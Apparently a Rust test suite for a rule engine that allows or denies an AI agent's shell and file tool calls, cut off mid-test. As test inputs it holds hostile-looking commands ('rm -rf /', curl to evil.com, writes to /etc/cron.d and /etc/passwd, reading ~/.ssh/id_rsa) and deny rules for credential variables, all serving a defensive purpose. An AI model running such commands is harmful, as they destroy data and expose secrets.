use permiter::config::{default_table_action, Action, Config, RuleConfig, TableConfig};
use permiter::engine::{
    evaluate_table, evaluate_with_local as evaluate_with_rules, AuditRecord, Decision, EvalContext,
    EvalResult, ToolInput,
};
use permiter::error::Error;
use permiter::local::LocalRuleSet;
use permiter::strmap::StrMap;
use permiter::world::{FileFacts, World};

fn text_of(table: &toml::Table, key: &str) -> Option<String> {
    table.get(key).map(|v| v.as_str().expect("a string").to_string())
}

fn action_of(name: &str) -> Action {
    match name {
        "allow" => Action::Allow,
        "deny" => Action::Deny,
        "passthrough" => Action::Passthrough,
        "force_passthrough" => Action::ForcePassthrough,
        "forward" => Action::Forward,
        "evaluate" => Action::Evaluate,
        other => panic!("no action {other}"),
    }
}

fn rule_of(t: &toml::Table) -> RuleConfig {
    RuleConfig {
        tool: text_of(t, "tool"),
        command: text_of(t, "command"),
        file_path: text_of(t, "file_path"),
        subagent_type: text_of(t, "subagent_type"),
        prompt: text_of(t, "prompt"),
        cwd: text_of(t, "cwd"),
        arg: text_of(t, "arg"),
        arg_not: text_of(t, "arg_not"),
        stdin: text_of(t, "stdin"),
        stdin_not: text_of(t, "stdin_not"),
        stdout: text_of(t, "stdout"),
        stdout_not: text_of(t, "stdout_not"),
        cwd_not: text_of(t, "cwd_not"),
        env: text_of(t, "env"),
        env_not: text_of(t, "env_not"),
        has_file: text_of(t, "has_file"),
        has_file_not: text_of(t, "has_file_not"),
        action: action_of(&text_of(t, "action").expect("an action")),
        reason: text_of(t, "reason"),
        target: text_of(t, "target"),
        flag_arg: text_of(t, "flag_arg"),
        positional: t.get("positional").map(|v| v.as_integer().expect("a number") as usize),
        opts_with_args: match t.get("opts_with_args") {
            Some(v) => v
                .as_array()
                .expect("a list")
                .iter()
                .map(|o| o.as_str().expect("a string").to_string())
                .collect(),
            None => Vec::new(),
        },
    }
}

fn parse_config(text: &str) -> Config {
    let root = text.parse::<toml::Table>().expect("valid config");
    let mut config = Config::empty();
    if let Some(global) = root.get("global").and_then(|v| v.as_table()) {
        if let Some(entry) = text_of(global, "entry_table") {
            config.global.entry_table = entry;
        }
        if let Some(b) = global.get("local_rules").and_then(|v| v.as_bool()) {
            config.global.local_rules = b;
        }
    }
    if let Some(constants) = root.get("constants").and_then(|v| v.as_table()) {
        for (name, value) in constants {
            config.constants.insert(name.clone(), value.as_str().expect("a string").to_string());
        }
    }
    if let Some(tables) = root.get("table").and_then(|v| v.as_table()) {
        for (name, value) in tables {
            let t = value.as_table().expect("a table");
            let rules = match t.get("rules") {
                Some(rules) => rules
                    .as_array()
                    .expect("a list")
                    .iter()
                    .map(|r| rule_of(r.as_table().expect("a rule")))
                    .collect(),
                None => Vec::new(),
            };
            let default = match text_of(t, "default") {
                Some(name) => action_of(&name),
                None => default_table_action(),
            };
            config.table.insert(name.clone(), TableConfig { default, rules });
        }
    }
    config
}

fn fields(pairs: &[(&str, &str)]) -> ToolInput {
    let mut fields = StrMap::new();
    for (name, text) in pairs {
        fields.insert(name.to_string(), text.to_string());
    }
    ToolInput { fields }
}

/// Evaluates in a file system that holds the given paths.
fn evaluate_among(
    config: &Config,
    tool: &str,
    input: &ToolInput,
    cwd: &str,
    local: Option<&LocalRuleSet>,
    paths: &[&str],
) -> Result<EvalResult, Error> {
    let mut files = FileFacts::new();
    loop {
        let world = World { home: "/root", env: &[], files: &files };
        let mut trail: Vec<AuditRecord> = Vec::new();
        match evaluate_with_rules(config, tool, input, cwd, local, world, &mut trail) {
            Err(Error::Unprobed { path, directory }) => {
                let answer = paths.contains(&path.as_str());
                files.learn(path, directory, answer);
            }
            other => return other,
        }
    }
}

fn evaluate(config: &Config, tool: &str, input: &ToolInput, cwd: &str) -> Result<EvalResult, Error> {
    let files = FileFacts::new();
    let world = World { home: "/root", env: &[], files: &files };
    permiter::engine::evaluate(config, tool, input, cwd, world, &mut Vec::new())
}

fn evaluate_with_local(
    config: &Config,
    tool: &str,
    input: &ToolInput,
    cwd: &str,
    local: Option<&LocalRuleSet>,
) -> Result<EvalResult, Error> {
    evaluate_among(config, tool, input, cwd, local, &[])
}

fn make_config(text: &str) -> Config {
    let mut c = parse_config(text);
    c.compile_regexes().expect("valid regexes");
    c
}

fn bash_input(cmd: &str) -> ToolInput {
    fields(&[("command", cmd)])
}




#[test]
fn test_simple_allow() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
tool = "Bash"
command = "^ls"
action = "allow"
reason = "ls is safe"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ls -la"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
    assert_eq!(result.reason.as_deref(), Some("ls is safe"));
}

#[test]
fn test_simple_deny() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^rm"
action = "deny"
reason = "rm is not allowed"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("rm -rf /"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
    assert!(result.reason.as_deref().unwrap().contains("rm is not allowed"));
}

#[test]
fn test_default_deny() {
    let config = make_config(
        r#"
[table.input]
default = "deny"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("some_unknown_command"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_forward_between_tables() {
    let config = make_config(
        r#"
[table.input]
default = "passthrough"

[[table.input.rules]]
tool = "Bash"
action = "forward"
target = "scrutiny"

[table.scrutiny]
default = "deny"

[[table.scrutiny.rules]]
command = "^ls"
action = "allow"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ls /tmp"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_cycle_detection() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
action = "forward"
target = "other"

[table.other]
default = "deny"

[[table.other.rules]]
action = "forward"
target = "input"
"#,
    );

    let ctx = EvalContext {
        tool_name: "Bash",
        tool_input: &bash_input("ls"),
        check_string: "ls",
        field_name: "command",
        cwd: "/home/user",
        moved: false,
        args: &[],
        written: &[],
        redirects_in: &[],
        redirects_out: &[],
        env_vars: &[],
    };
    let files = FileFacts::new();
    let world = World { home: "/root", env: &[], files: &files };
    let mut visited = Vec::new();
    let result = evaluate_table(&config, "input", &ctx, &mut visited, world, &mut Vec::new());
    assert!(result.is_err());
    assert!(result.unwrap_err().message().contains("Cycle detected"));
}

#[test]
fn test_compound_command_deny_wins() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^ls"
action = "allow"

[[table.input.rules]]
command = "^rm"
action = "deny"
reason = "rm denied"
"#,
    );

    // ls is allowed but rm is denied; deny should win
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ls /tmp && rm -rf /tmp/foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_file_path_rule() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
tool = "Read"
file_path = "^/home/user/dev/.*"
action = "allow"
"#,
    );

    let input = fields(&[("file_path", "/home/user/dev/project/file.rs")]);
    let result = evaluate(&config, "Read", &input, "/home/user").unwrap();
    assert_eq!(result.decision, Decision::Allow);

    let input2 = fields(&[("file_path", "/etc/passwd")]);
    let result2 = evaluate(&config, "Read", &input2, "/home/user").unwrap();
    assert_eq!(result2.decision, Decision::Deny);
}

#[test]
fn test_passthrough() {
    let config = make_config(
        r#"
[table.input]
default = "passthrough"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ls"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Passthrough);
}

#[test]
fn test_force_passthrough_decision() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
tool = "Bash"
command = "^ls"
action = "force_passthrough"
reason = "Force passthrough ls"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ls -la"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::ForcePassthrough);
    assert_eq!(result.reason.as_deref(), Some("Force passthrough ls"));
}

#[test]
fn test_tool_pattern_filter() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
tool = "^Read$"
file_path = ".*"
action = "allow"

[[table.input.rules]]
tool = "^Write$"
file_path = ".*"
action = "deny"
reason = "writes denied"
"#,
    );

    let input = fields(&[("file_path", "/tmp/file.txt")]);
    let read_result = evaluate(&config, "Read", &input, "/home/user").unwrap();
    assert_eq!(read_result.decision, Decision::Allow);

    let write_result = evaluate(&config, "Write", &input, "/home/user").unwrap();
    assert_eq!(write_result.decision, Decision::Deny);
}

// ── cwd matching ─────────────────────────────────────────────────────────

#[test]
fn test_cwd_allows_when_matches() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^rm\\b"
cwd = "^/tmp(/.*)?$"
action = "allow"
reason = "rm allowed inside /tmp"
"#,
    );

    // cd /tmp && rm foo — rm's effective_cwd is /tmp
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cd /tmp && rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_cwd_denies_when_mismatches() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^rm\\b"
cwd = "^/tmp(/.*)?$"
action = "allow"
reason = "rm allowed inside /tmp"
"#,
    );

    // rm from /home/user — cwd doesn't match /tmp, rule skipped, default deny
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_cwd_subdirectory_matches() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^rm\\b"
cwd = "^/tmp(/.*)?$"
action = "allow"
"#,
    );

    // cd /tmp/subdir && rm foo — /tmp/subdir matches ^/tmp(/.*)?$
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cd /tmp/subdir && rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_cwd_and_command_both_required() {
    // Rule requires both command=^rm and cwd=^/tmp — only rm in /tmp passes
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^rm\\b"
cwd = "^/tmp(/.*)?$"
action = "allow"
"#,
    );

    // ls in /tmp — command doesn't match ^rm, denied
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cd /tmp && ls"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);

    // rm in /tmp — both match, allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cd /tmp && rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_cwd_from_initial_cwd() {
    // No cd in command — effective_cwd is the HookInput cwd
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^rm\\b"
cwd = "^/tmp(/.*)?$"
action = "allow"
"#,
    );

    // Running from /tmp already — rm is allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("rm foo"),
        "/tmp",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    // Running from /home/user — rm is denied
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

// ── arg matching ──────────────────────────────────────────────────────────

#[test]
fn test_arg_matches_any_argument() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^curl\\b"
arg = "^https://api\\.github\\.com/"
action = "allow"
reason = "curl to github api allowed"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://api.github.com/repos/foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_arg_allows_with_flags_before_url() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^curl\\b"
arg = "^https://api\\.github\\.com/"
action = "allow"
"#,
    );

    // Flags appear before the URL — arg should still match on the URL arg
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl -X POST -H \"Authorization: Bearer token\" https://api.github.com/repos"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_arg_denies_unapproved_url() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^curl\\b"
arg = "^https://api\\.github\\.com/"
action = "allow"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://evil.com/payload"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_arg_ssh_host_matching() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^ssh\\b"
arg = "@(dev|staging)\\.example\\.com$"
action = "allow"
reason = "ssh to approved hosts"

[[table.input.rules]]
command = "^ssh\\b"
action = "deny"
reason = "ssh to unapproved host"
"#,
    );

    let allowed = evaluate(
        &config,
        "Bash",
        &bash_input("ssh user@dev.example.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(allowed.decision, Decision::Allow);

    let denied = evaluate(
        &config,
        "Bash",
        &bash_input("ssh user@prod.example.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(denied.decision, Decision::Deny);
}

#[test]
fn test_arg_ssh_with_flags() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^ssh\\b"
arg = "@approved\\.host\\.com$"
action = "allow"
"#,
    );

    // -p flag and -i flag appear before destination
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ssh -p 2222 -i ~/.ssh/id_rsa user@approved.host.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_arg_combined_with_cwd() {
    // Both arg and cwd must match
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^curl\\b"
arg = "^https://api\\.github\\.com/"
cwd = "^/home/user/dev/"
action = "allow"
reason = "curl to github from dev dir"
"#,
    );

    // Right URL, right cwd → allow
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://api.github.com/repos"),
        "/home/user/dev/myproject",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    // Right URL, wrong cwd → deny
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://api.github.com/repos"),
        "/tmp",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);

    // Wrong URL, right cwd → deny
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://evil.com/payload"),
        "/home/user/dev/myproject",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_arg_not_excludes_matching_arg() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^curl\\b"
arg = "^https://"
arg_not = "evil\\.com"
action = "allow"
reason = "curl to https, except evil.com"
"#,
    );

    // Approved HTTPS URL — allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://api.github.com/repos"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    // evil.com — arg_not fires, rule skipped, falls to deny
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://evil.com/payload"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_cwd_not_excludes_matching_cwd() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^rm\\b"
cwd = "^/tmp(/.*)?$"
cwd_not = "^/tmp/protected"
action = "allow"
reason = "rm in /tmp except /tmp/protected"
"#,
    );

    // /tmp/safe — cwd matches, cwd_not doesn't — allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cd /tmp/safe && rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    // /tmp/protected — cwd_not fires, rule skipped — denied
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cd /tmp/protected && rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);

    // /home/user — cwd doesn't match /tmp at all — denied
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_stdout_not_excludes_sensitive_path() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
stdout = "^/tmp/.*"
stdout_not = "^/tmp/protected/.*"
action = "allow"
reason = "redirect to /tmp except /tmp/protected"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("echo hello > /tmp/out.txt"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("echo hello > /tmp/protected/secret"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_arg_not_without_arg_acts_as_standalone_exception() {
    // arg_not without arg: rule fires for any command UNLESS the arg matches
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^curl\\b"
arg_not = "evil\\.com"
action = "allow"
reason = "curl allowed unless to evil.com"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://github.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://evil.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_arg_no_args_does_not_match() {
    // Rule requires arg match, but command has no arguments → deny
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^curl\\b"
arg = "^https://"
action = "allow"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

// ── stdin / stdout redirect matching ─────────────────────────────────────

#[test]
fn test_stdout_redirect_matched() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
stdout = "^/etc/.*"
action = "deny"
reason = "cannot redirect into /etc"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("echo hello > /etc/passwd"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
    assert!(result.reason.as_deref().unwrap().contains("cannot redirect into /etc"));
}

#[test]
fn test_stdout_append_redirect_matched() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
stdout = "^/etc/.*"
action = "deny"
reason = "cannot redirect into /etc"
"#,
    );

    // >> is also a stdout redirect
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("echo hello >> /etc/hosts"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_stdin_redirect_matched() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
stdin = "^/home/user/\\.ssh/.*"
action = "deny"
reason = "cannot read .ssh via redirection"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cat < /home/user/.ssh/id_rsa"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_no_redirect_does_not_trigger_stdout_rule() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
stdout = "^/etc/.*"
action = "deny"
"#,
    );

    // echo without a redirect — stdout rule should not fire
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("echo hello"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_stdout_safe_path_allowed() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
stdout = "^/tmp/.*"
action = "allow"
reason = "redirect to /tmp is fine"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("echo hello > /tmp/out.txt"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    // Different path — not allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("echo hello > /etc/cron.d/evil"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_stdout_and_command_both_required() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^curl\\b"
stdout = "^/etc/.*"
action = "deny"
reason = "curl cannot write to /etc"
"#,
    );

    // curl writing to /etc — denied
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://example.com > /etc/cron.d/evil"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);

    // echo writing to /etc — command doesn't match ^curl, rule doesn't fire
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("echo hello > /etc/passwd"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

// ── env matching ──────────────────────────────────────────────────────────

#[test]
fn test_env_matches_inline_var() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^curl\\b"
env = "^AWS_SECRET_ACCESS_KEY="
action = "deny"
reason = "inline AWS credentials detected"
"#,
    );

    // AWS key set inline — deny
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("AWS_SECRET_ACCESS_KEY=abc123 curl https://example.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
    assert!(result.reason.as_deref().unwrap().contains("AWS credentials"));
}

#[test]
fn test_env_not_set_inline_is_allowed() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^curl\\b"
env = "^AWS_SECRET_ACCESS_KEY="
action = "deny"
reason = "inline AWS credentials detected"
"#,
    );

    // No AWS key — rule doesn't match, allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://example.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_env_not_excludes_when_var_present() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^cargo\\b"
env_not = "^PROD_ENV=true$"
action = "allow"
reason = "cargo allowed outside production"
"#,
    );

    // No PROD_ENV=true → env_not doesn't fire → allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cargo test"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_multiple_inline_vars_any_can_match() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
env = "^(AWS_SECRET|GITHUB_TOKEN|NPM_TOKEN)="
action = "deny"
reason = "credential leakage risk"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("GITHUB_TOKEN=ghp_abc curl https://api.github.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("curl https://api.github.com"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

// ── evaluate action (subcommand extraction) ────────────────────────────

#[test]
fn test_evaluate_sh_c_deny_subcommand() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^rm\\b"
action = "deny"
reason = "rm denied"

[[table.input.rules]]
command = "^(sh|bash)\\b"
action = "evaluate"
flag_arg = "-c"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("sh -c 'rm -rf /'"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
    assert!(result.reason.as_deref().unwrap().contains("rm denied"));
}

#[test]
fn test_evaluate_sh_c_allow_safe_subcommand() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^ls\\b"
action = "allow"

[[table.input.rules]]
command = "^(sh|bash)\\b"
action = "evaluate"
flag_arg = "-c"
"#,
    );

    // sh -c 'ls /tmp' — evaluate extracts "ls /tmp", recycled → allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("sh -c 'ls /tmp'"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_evaluate_positional_timeout() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^rm\\b"
action = "deny"
reason = "rm denied"

[[table.input.rules]]
command = "^timeout\\b"
action = "evaluate"
positional = 1
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("timeout 30 rm -rf /tmp"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_evaluate_sudo_with_opts() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^rm\\b"
action = "deny"
reason = "rm denied"

[[table.input.rules]]
command = "^sudo\\b"
action = "evaluate"
opts_with_args = ["-u", "-g"]
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("sudo -u nobody rm -rf /"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_evaluate_opts_with_boolean_flags() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^rm\\b"
action = "deny"
reason = "rm denied"

[[table.input.rules]]
command = "^ssh\\b"
action = "evaluate"
opts_with_args = ["-i", "-p", "-o", "-l"]
positional = 1
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ssh -i key -p 22 -v host rm -rf /"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_evaluate_flags_after_positional() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^rm\\b"
action = "deny"
reason = "rm denied"

[[table.input.rules]]
command = "^ssh\\b"
action = "evaluate"
opts_with_args = ["-i", "-p", "-o"]
positional = 1
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ssh host -vvv rm foo"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_evaluate_double_dash_ends_options() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^-dangerous"
action = "deny"
reason = "starts with dash"

[[table.input.rules]]
command = "^sudo\\b"
action = "evaluate"
opts_with_args = ["-u"]
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("sudo -- -dangerous-cmd"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_evaluate_forward_to_table() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^sudo\\b"
action = "evaluate"
target = "sudo_scrutiny"

[table.sudo_scrutiny]
default = "deny"

[[table.sudo_scrutiny.rules]]
command = "^systemctl\\b"
action = "allow"
reason = "systemctl via sudo ok"
"#,
    );

    // sudo systemctl — subcommand evaluated in sudo_scrutiny, allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("sudo systemctl restart nginx"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    // sudo rm — subcommand evaluated in sudo_scrutiny, default deny
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("sudo rm -rf /"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_evaluate_no_subcommand_falls_through() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^ssh\\b"
action = "evaluate"
positional = 1
"#,
    );

    // ssh host — no remote command, evaluate extracts nothing, falls to default allow
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ssh host"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_evaluate_nested_sh_c() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^rm\\b"
action = "deny"
reason = "rm denied"

[[table.input.rules]]
command = "^(sh|bash)\\b"
action = "evaluate"
flag_arg = "-c"
"#,
    );

    // sh -c 'bash -c "rm -rf /"' — nested evaluate extraction
    let result = evaluate(
        &config,
        "Bash",
        &bash_input(r#"sh -c 'bash -c "rm -rf /"'"#),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_evaluate_denied_before_evaluate_rule() {
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^sudo\\b"
action = "deny"
reason = "sudo not allowed"

[[table.input.rules]]
command = "^sudo\\b"
action = "evaluate"
"#,
    );

    // sudo ls — deny rule matches first, evaluate never reached
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("sudo ls"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
    assert!(result.reason.as_deref().unwrap().contains("sudo not allowed"));
}

#[test]
fn test_evaluate_subcommand_denied() {
    let config = make_config(
        r#"
[table.input]
default = "allow"

[[table.input.rules]]
command = "^rm\\b"
action = "deny"
reason = "rm denied"

[[table.input.rules]]
command = "^sudo\\b"
action = "evaluate"
"#,
    );

    // sudo rm — evaluate extracts "rm -rf /", recycled → denied
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("sudo rm -rf /"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_evaluate_gated_by_conditions() {
    // Only evaluate ssh to approved hosts
    let config = make_config(
